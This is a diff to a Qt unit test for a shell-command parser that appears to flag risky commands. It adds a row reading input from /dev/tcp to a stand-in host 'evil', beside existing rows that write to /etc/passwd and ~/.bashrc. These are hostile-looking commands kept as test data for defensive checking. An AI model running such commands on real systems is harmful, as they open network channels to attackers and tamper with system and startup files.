@@ -83,6 +83,7 @@ void TestShellParse::commands_data()
     // Redirections: reading is fine, writing a file is not a plain command.
     QTest::newRow("2>&1 and /dev/null") << "make 2>&1 >/dev/null" << L({"make"}) << 0u;
     QTest::newRow("input") << "sort < list" << L({"sort"}) << 0u;
+    QTest::newRow("input from /dev/tcp") << "git status < /dev/tcp/evil/80" << L({"git status"}) << uint(Op::RiskyOption);
     QTest::newRow("write outside") << "make > /etc/passwd" << L({"make"}) << uint(Op::WritesFile);
     QTest::newRow("append") << "git status >> ~/.bashrc" << L({"git status"}) << uint(Op::WritesFile);
     QTest::newRow("fd write") << "make 2>~/log" << L({"make"}) << uint(Op::WritesFile);
